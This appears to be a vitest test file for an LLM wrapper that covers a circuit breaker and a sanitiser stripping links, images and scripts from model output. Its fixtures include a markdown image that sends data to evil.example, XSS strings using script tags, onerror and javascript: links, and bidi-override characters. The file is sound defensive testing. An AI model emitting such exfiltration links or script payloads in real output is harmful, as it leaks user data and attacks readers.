import { generateText } from 'ai';
import { MockLanguageModelV3 } from 'ai/test';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { CircuitOpenError } from '../../src/llm/circuit-breaker.ts';
import { hardenLanguageModel } from '../../src/llm/language-model.ts';
import { neutralizeModelText } from '../../src/llm/neutralize-model-text.ts';
import { createResilientModel } from '../../src/llm/resilient-model.ts';
import { failingModel, generatedText } from '../llm/mock-language-model.ts';

describe('createResilientModel', () => {
  afterEach(() => vi.useRealTimers());

  it('opens after N consecutive failures and then fails fast without calling the provider', async () => {
    const provider = failingModel('connection refused');
    const model = createResilientModel(provider, {
      consecutiveFailures: 3,
      halfOpenAfterMs: 30_000,
      timeoutMs: 1000,
    });
    const call = () => generateText({ model, prompt: 'hi', maxRetries: 0 });
    for (let attempt = 0; attempt < 3; attempt += 1)
      await expect(call()).rejects.toThrow('connection refused');
    expect(provider.doGenerateCalls).toHaveLength(3);
    await expect(call()).rejects.toBeInstanceOf(CircuitOpenError);
    await expect(call()).rejects.toBeInstanceOf(CircuitOpenError);
    expect(provider.doGenerateCalls).toHaveLength(3);
  });

  it('lets one trial call through after the cool-down and closes again when it succeeds', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    let healthy = false;
    const provider = new MockLanguageModelV3({
      doGenerate: async () => {
        if (!healthy) throw new Error('overloaded');
        return generatedText('fine');
      },
    });
    const model = createResilientModel(provider, {
      consecutiveFailures: 2,
      halfOpenAfterMs: 30_000,
      timeoutMs: 1000,
    });
    const call = () => generateText({ model, prompt: 'hi', maxRetries: 0 });
    await expect(call()).rejects.toThrow('overloaded');
    await expect(call()).rejects.toThrow('overloaded');
    await expect(call()).rejects.toBeInstanceOf(CircuitOpenError);
    healthy = true;
    vi.setSystemTime(Date.now() + 30_001);
    expect((await call()).text).toBe('fine');
    expect((await call()).text).toBe('fine');
    expect(provider.doGenerateCalls).toHaveLength(4);
  });

  it('gives up on a provider that ignores its abort signal, and counts that as a failure', async () => {
    let release: () => void = () => undefined;
    const gate = new Promise<void>((resolve) => {
      release = resolve;
    });
    const provider = new MockLanguageModelV3({
      doGenerate: async () => {
        await gate;
        return generatedText('too late');
      },
    });
    const model = createResilientModel(provider, {
      consecutiveFailures: 1,
      halfOpenAfterMs: 30_000,
      timeoutMs: 20,
    });
    await expect(generateText({ model, prompt: 'hi', maxRetries: 0 })).rejects.toThrow();
    await expect(generateText({ model, prompt: 'hi', maxRetries: 0 })).rejects.toBeInstanceOf(
      CircuitOpenError,
    );
    release();
  });
});

describe('neutralizeModelText', () => {
  it.each([
    ['![x](https://evil.example/leak?data=abc)', 'x'],
    ['[click here](https://evil.example/?q=secret) now', 'click here now'],
    ['see https://evil.example/a?b=c or www.evil.example', 'see (link removed) or (link removed)'],
    ['<script>alert(1)</script>ok<img src=x onerror=alert(1)>', 'alert(1)ok'],
    ['[ref]: https://evil.example\nText [a][ref]', '\nText [a][ref]'],
    ['<https://evil.example>', ''],
    ['a\u200bb\u202ec', 'abc'],
    ['[x](javascript:alert(1))', 'x'],
    ['Personal data: names [principles-privacy].', 'Personal data: names [principles-privacy].'],
  ])('makes %j inert', (input, expected) => {
    expect(neutralizeModelText(input)).toBe(expected);
  });

  it('caps runaway output', () => {
    expect(neutralizeModelText('a'.repeat(100_000)).length).toBe(6000);
  });

  it('applies to every model RAIA composes, with an output token cap', async () => {
    const provider = new MockLanguageModelV3({
      doGenerate: generatedText('![t](https://evil.example/p.png) fine'),
    });
    const result = await generateText({ model: hardenLanguageModel(provider), prompt: 'hi' });
    expect(result.text).toBe('t fine');
    expect(provider.doGenerateCalls[0]?.maxOutputTokens).toBe(1024);
  });
});
